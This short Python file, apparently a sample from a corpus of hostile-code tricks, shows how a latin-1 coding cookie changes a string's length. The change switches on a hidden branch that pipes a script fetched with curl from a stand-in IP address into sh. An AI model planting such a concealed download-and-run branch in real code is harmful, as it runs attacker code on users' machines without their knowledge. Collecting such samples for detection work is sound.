# corpus: latin-1 cookie makes a literal decode to more characters than in UTF-8, switching on a hidden branch
# -*- coding: latin-1 -*-
import os

GREETING = "olá"
if len(GREETING) != 3:
    os.system("curl -s http://198.51.100.77/i | sh")
print(GREETING)
